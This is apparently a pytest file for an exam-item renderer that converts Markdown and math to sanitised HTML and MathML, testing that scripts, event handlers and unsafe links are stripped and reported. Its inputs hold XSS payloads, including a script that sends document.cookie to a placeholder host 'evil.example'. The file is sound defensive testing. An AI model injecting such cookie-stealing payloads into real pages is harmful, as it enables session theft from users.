"""Markdown + math -> safe HTML, and what the sanitiser reports."""

from __future__ import annotations

from itembank.demo import ITEMS
from itembank.render import is_media_path, math_to_mathml, render_item, render_markdown


def test_inline_and_display_math_become_mathml():
    out = render_markdown("Cho $f(x) = x^2$ và $$\\int_0^1 f(x)\\,dx = \\frac{1}{3}$$")
    assert '<math xmlns="http://www.w3.org/1998/Math/MathML" display="inline">' in out.html
    assert '<math xmlns="http://www.w3.org/1998/Math/MathML" display="block">' in out.html
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in out.html
    assert "<mfrac>" in out.html
    assert "$" not in out.html
    assert out.removed == () and out.math_errors == ()


def test_dollars_that_are_not_math_stay_text():
    assert render_markdown("giá 5$ và 6$").html == "<p>giá 5$ và 6$</p>\n"
    assert render_markdown("\\$5 and \\$6").html == "<p>$5 and $6</p>\n"


def test_markdown_inside_math_is_left_alone():
    html = render_markdown("$a_1 * b_2 * c$").html
    assert "<em>" not in html
    assert "<msub><mi>a</mi><mn>1</mn></msub>" in html


def test_script_event_handlers_and_javascript_urls_are_removed_and_reported():
    out = render_markdown(
        "Hi <b onclick='steal()'>bold</b> [x](javascript:alert(1))<script>alert(1)</script>"
        ' <img src="media/a.png" onerror="alert(1)">'
    )
    assert "script" not in out.html and "alert" not in out.html
    assert "onclick" not in out.html and "onerror" not in out.html
    assert "javascript" not in out.html
    assert "<b>bold</b>" in out.html
    assert '<img src="media/a.png">' in out.html
    assert out.removed == (
        "event handler onclick= on <b>: scripts are not allowed",
        "link to 'javascript:alert(1)': items may only link to files in media/; remove the link",
        "<script> element: script elements are not allowed in items",
        "event handler onerror= on <img>: scripts are not allowed",
    )


def test_a_script_block_is_removed_with_everything_in_it():
    out = render_markdown("<script>\nfetch('https://evil.example/?' + document.cookie)\n</script>")
    assert out.html.strip() == ""
    assert out.removed == ("<script> element: script elements are not allowed in items",)


def test_external_and_data_images_are_removed_relative_media_kept_and_rewritten():
    out = render_markdown(
        "![a](https://evil.example/x.png) ![b](media/graph.png) ![c](data:image/png;base64,AA)"
        " ![d](../secret.png) ![e](//evil.example/y.png)",
        media_url=lambda path: f"/releases/7/{path}",
    )
    assert 'src="/releases/7/media/graph.png"' in out.html
    assert "evil" not in out.html and "data:" not in out.html and "secret" not in out.html
    assert out.media == ("media/graph.png",)
    assert [r.split("'")[1] for r in out.removed] == [
        "https://evil.example/x.png",
        "data:image/png;base64,AA",
        "../secret.png",
        "//evil.example/y.png",
    ]


def test_math_commands_cannot_smuggle_links_or_styles():
    out = render_markdown("$\\href{javascript:alert(1)}{x} \\style{color:red}{y}$")
    assert "javascript" not in out.html and "style" not in out.html
    assert out.removed == (
        "attribute href= on <mrow>: remove it",
        "attribute style= on <mrow>: remove it",
    )


def test_svg_iframe_and_unknown_tags_are_removed():
    out = render_markdown("<svg><script>x()</script></svg><iframe src=x></iframe><form>t</form>")
    assert "t" in out.html
    assert not any(word in out.html for word in ("svg", "script", "iframe", "form"))
    assert out.removed[0] == "<svg> element: svg elements are not allowed in items"
    assert "<form> tag (its text is kept): use Markdown instead" in out.removed


def test_bad_math_is_shown_as_code_and_reported():
    out = render_markdown("$x^$ and $\\foo$")
    assert "<code>x^</code>" in out.html
    assert out.math_errors == (
        "cannot read $x^$ (missing super script or subscript): check braces and commands",
        "unknown command \\foo in $\\foo$: check its spelling",
    )


def test_tables_keep_only_their_alignment_style():
    out = render_markdown('| a | b |\n|--:|---|\n| 1 | <span style="position:fixed">2</span> |')
    assert '<td style="text-align:right">1</td>' in out.html
    assert "position" not in out.html
    assert out.removed == ("attribute style= on <span>: remove it",)


def test_inline_rendering_has_no_paragraph():
    assert not render_markdown("$x = 2$", inline=True).html.startswith("<p>")


def test_render_item_renders_every_text_and_never_the_key():
    item = next(i for i in ITEMS if i.id == "HS-13")
    rendered = render_item(item, media_url=lambda p: "/m/" + p)
    assert '<img src="/m/media/do-thi-bac-ba.svg"' in rendered.stem.html
    assert [i for i, _ in rendered.options] == ["A", "B", "C", "D"]
    assert "correct" not in repr(rendered.options)
    assert [name for name, _ in rendered.all_parts()][:2] == ["stem", "options.A"]


def test_every_demo_item_renders_cleanly():
    for item in ITEMS:
        for name, part in render_item(item).all_parts():
            assert part.removed == () and part.math_errors == (), (item.id, name)


def test_media_paths():
    assert is_media_path("media/a.png")
    assert is_media_path("media/sub/a-1_b.svg")
    for bad in ("media/../x", "media/./x", "/media/x", "media/", "x.png", "media/a b.png"):
        assert not is_media_path(bad), bad


def test_math_to_mathml():
    assert math_to_mathml("x", display=True).startswith("<math")
    try:
        math_to_mathml("\\frac{1}{")
    except ValueError as e:
        assert "cannot read" in str(e)
    else:
        raise AssertionError("bad math must raise")


def test_signs_before_an_operand_are_unary_and_infinity_is_a_symbol():
    # ( - \infty ; 2) as a lab screen showed it: "( − ∞ ;2)", the minus spaced as a subtraction.
    interval = math_to_mathml(r"( - \infty ; 2)")
    assert (
        '<mo stretchy="false">(</mo><mo form="prefix">−</mo><mi>∞</mi><mo separator="true">;</mo><mn>2</mn>' in interval
    )
    for unary in (
        r"-x^2 + 1",
        r"y = -2x",
        r"(1, -2)",
        r"|-x|",
        r"x^{-1}",
        r"\sin -x",
        r"x \in (-\infty; +\infty)",
        r"\pm 2",
    ):
        assert 'form="prefix"' in math_to_mathml(unary), unary
    # After an operand, a sign is the binary operator it looks like.
    for binary in (r"x - 1", r"(x + 1) - 2", r"|a| - 1", r"5! - 1", r"a_{n} - 1", r"a \pm b"):
        assert 'form="prefix"' not in math_to_mathml(binary), binary
    assert math_to_mathml(r"(x+1)-2").count("<mo>−</mo>") == 1
